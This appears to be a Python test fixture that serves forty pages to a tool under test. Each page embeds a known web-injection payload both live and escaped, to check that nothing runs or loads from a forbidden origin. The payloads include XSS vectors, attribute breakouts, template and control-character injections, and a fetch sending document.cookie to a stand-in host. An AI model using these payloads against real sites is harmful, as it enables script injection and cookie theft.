"""A site whose forty pages try to run, to load, to hide and to turn what shows them.

Each payload stands on its page twice: as markup, which the parser meets, and escaped, as the text of a title,
headings, passages and code, which is what a page about markup has, and what readers are shown.
"""

import html

from tests.fakes.site_server import Reply, Script

WORD = "gryphon"
"""Stands on every page, so that one search finds them all."""

MARK = "executed"
"""What a payload that runs sets, on the window."""


def payloads(elsewhere: str) -> tuple[str, ...]:
    """Return forty of them; *elsewhere* is an origin that nothing may be fetched from."""
    run, load = f"window.{MARK}=1", f"fetch('{elsewhere}/taken?'+document.cookie)"
    return (
        f"<script>{run}</script>",
        f"<script src='{elsewhere}/a.js'></script>",
        f"</title><script>{run}</script>",
        f"</textarea></pre></code><script>{run}</script>",
        f"<img src=x onerror={run}>",
        f"<img src='{elsewhere}/pixel.png'>",
        f"<img srcset='{elsewhere}/wide.png 2x'>",
        f"<svg onload={run}><circle r=9 /></svg>",
        f"<svg><script>{run}</script></svg>",
        f"<svg><animate onbegin={run} attributeName=x dur=1s></svg>",
        f"<svg><use href='{elsewhere}/sprite.svg#x'></use></svg>",
        f"<svg><image href='{elsewhere}/image.png'></image></svg>",
        f"<math><maction actiontype=statusline xlink:href='javascript:{run}'>m</maction></math>",
        f"<iframe src='javascript:{run}'></iframe>",
        f"<iframe srcdoc='<script>parent.{MARK}=1</script>'></iframe>",
        f"<iframe src='{elsewhere}/frame'></iframe>",
        f"<object data='{elsewhere}/object'></object>",
        f"<embed src='{elsewhere}/embed'>",
        f"<video src='{elsewhere}/video' autoplay poster='{elsewhere}/poster'></video>",
        f"<audio src='{elsewhere}/audio' autoplay onerror={run}></audio>",
        f"<link rel=stylesheet href='{elsewhere}/style.css'>",
        f"<link rel=preload as=script href='{elsewhere}/preload.js'>",
        f"<style>@import '{elsewhere}/import.css'; body{{display:none}}</style>",
        f"<p style=\"background:url('{elsewhere}/background.png')\">styled</p>",
        f"<meta http-equiv=refresh content='0;url={elsewhere}/refreshed'>",
        f"<base href='{elsewhere}/'>",
        f"<form action='{elsewhere}/form'><button autofocus onfocus={run}>ok</button></form>",
        f"<details open ontoggle={run}><summary>open</summary></details>",
        f"<input autofocus onfocus={run}>",
        f'" autofocus onfocus="{run}" x="',
        f"' onmouseover='{run}",
        f"<a href='javascript:{run}'>press</a> javascript:{run}",
        f"[press](javascript:{run}) ![x]({elsewhere}/markdown.png)",
        f"<a href='data:text/html,<script>{load}</script>'>data</a>",
        f"<body onload={run} onpageshow={run}>",
        "{{ 7 * 7 }} {% for x in range(9) %}looped{% endfor %} ${7*7} #{7*7}",
        "\u202egnirts desrever\u202c \u2066isolated\u2069 \u200fmarked\u200e",
        "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x9b2J cleared",
        "tagged\U000e0041\U000e0042 zero\u200bwidth \ufeffmark \u2028line",
        f"<template><script>{run}</script></template><noscript><img src={elsewhere}/noscript></noscript>",
    )


def hostile_pages(elsewhere: str) -> dict[str, Script]:
    """Return the pages by path; the first links to all others, some of them by addresses that need care."""
    found: dict[str, Script] = {}
    for number, payload in enumerate(payloads(elsewhere)):
        found[f"/page-{number:02d}.html?a=%22%3E%3Cscript%3E&b=%27"] = Reply(_page(number, payload).encode())
    links = "".join(
        f'<li><a href="{html.escape(path)}">{number}</a></li>' for number, path in enumerate(found)
    )
    found["/"] = Reply(f"<html><title>Start</title><main><h1>Start</h1><ul>{links}</ul></main>".encode())
    return found


def _page(number: int, payload: str) -> str:
    text = html.escape(payload)
    return (
        f"<!doctype html><html lang=en><head><title>{text} {number}</title></head><body><main>"
        f"<h1>{text} {number}</h1><p>The {WORD} of page {number} says {text} and goes on about its day, as "
        f"each {WORD} of the house does when the bell of tower {number} has rung.</p>"
        f"<h2>{text}</h2><pre><code>{text} in code {number}</code></pre>"
        f"<p>Behind the wall stands markup {number}.</p>{payload}</main></body></html>"
    )
